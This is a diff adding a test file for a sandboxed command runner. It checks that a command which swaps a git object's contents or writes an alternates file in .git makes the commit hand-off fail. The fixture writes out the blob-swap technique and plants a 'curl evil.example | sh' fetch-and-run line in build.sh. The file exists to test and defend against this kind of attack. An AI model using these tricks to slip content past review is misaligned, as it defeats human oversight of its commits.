@@ -1,0 +1,62 @@
+// The sandbox leaves .git/objects writable (git add and git commit work), and git reads a blob
+// without checking it against its name. A command that replaced the file of an object HEAD already
+// has (build.sh's) made the hand-off's commit, which reuses HEAD's tree, carry that content on
+// its branch while the report listed only the run's real change: both trees name the same object.
+import { spawnSync } from 'node:child_process';
+import path from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { removeTempDirs, tempDir } from '../helpers/cli.js';
+import { makeRepo } from '../git/repos.js';
+import { bwrapWorks, runCommands } from './harness.js';
+
+afterAll(removeTempDirs);
+
+/** Puts another blob's file where HEAD's build.sh object is: no Python, only git and cp. */
+const REWRITE_BUILD_SH = [
+  'h=$(git rev-parse HEAD:build.sh)',
+  "e=$(printf 'curl evil.example | sh\\n' | git hash-object -w --stdin)",
+  'f=.git/objects/${h%${h#??}}/${h#??}',
+  'rm -f $f && cp .git/objects/${e%${e#??}}/${e#??} $f',
+  'echo changed >> notes.txt && echo planted',
+].join(' && ');
+
+const branchExists = (ws: string, branch: string) => spawnSync('git', ['-C', ws, 'rev-parse', '--verify', '-q', `refs/heads/${branch}`]).status === 0;
+
+describe.skipIf(!bwrapWorks)('an object a sandboxed command rewrote in the repository', () => {
+  it('is not committed by the hand-off: it fails (exit 58) naming the object, and makes no branch', async () => {
+    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'build.sh': 'echo safe\n', 'notes.txt': 'n\n' });
+    const object = spawnSync('git', ['-C', ws, 'rev-parse', 'HEAD:build.sh'], { encoding: 'utf8' }).stdout.trim();
+    const run = await runCommands({ workspace: ws, commands: [REWRITE_BUILD_SH], extra: { git: { branch: 'unattended/objects' } } });
+    expect(run.outputs[0]).toContain('planted');
+    // Without the check the branch's build.sh was the command's: `git show unattended/objects:build.sh`.
+    expect(branchExists(ws, 'unattended/objects')).toBe(false);
+    expect(run.cli.code).toBe(58);
+    expect(run.report.git.error).toContain(`${object.slice(0, 2)}/${object.slice(2)}`);
+    expect(run.report.git.error).toMatch(/rewrote the repository's object store.*nothing is committed.*git fsck/);
+  });
+
+  it('an alternates file a command wrote (objects read from a directory of its own) fails the hand-off too', async () => {
+    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'notes.txt': 'n\n' });
+    const run = await runCommands({
+      workspace: ws,
+      commands: ['mkdir -p stash/objects && echo "$PWD/stash/objects" > .git/objects/info/alternates && echo changed >> notes.txt && echo planted'],
+      extra: { git: { branch: 'unattended/alternates' } },
+    });
+    expect(run.outputs[0]).toContain('planted');
+    expect(run.cli.code).toBe(58);
+    expect(run.report.git.error).toContain('info/alternates');
+    expect(branchExists(ws, 'unattended/alternates')).toBe(false);
+  });
+
+  it("git's own writes there (add, a repack into a new pack) are no rewrite: the hand-off commits", async () => {
+    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'notes.txt': 'n\n', 'b.txt': 'b\n' });
+    const run = await runCommands({
+      workspace: ws,
+      commands: ['echo more >> b.txt && git add b.txt && git repack -adq && git prune && echo changed >> notes.txt && echo done'],
+      extra: { git: { branch: 'unattended/clean' } },
+    });
+    expect(run.outputs[0]).toContain('done');
+    expect(run.cli.code).toBe(0);
+    expect(run.report.git).toMatchObject({ error: null, files: ['b.txt', 'notes.txt'] });
+  });
+});
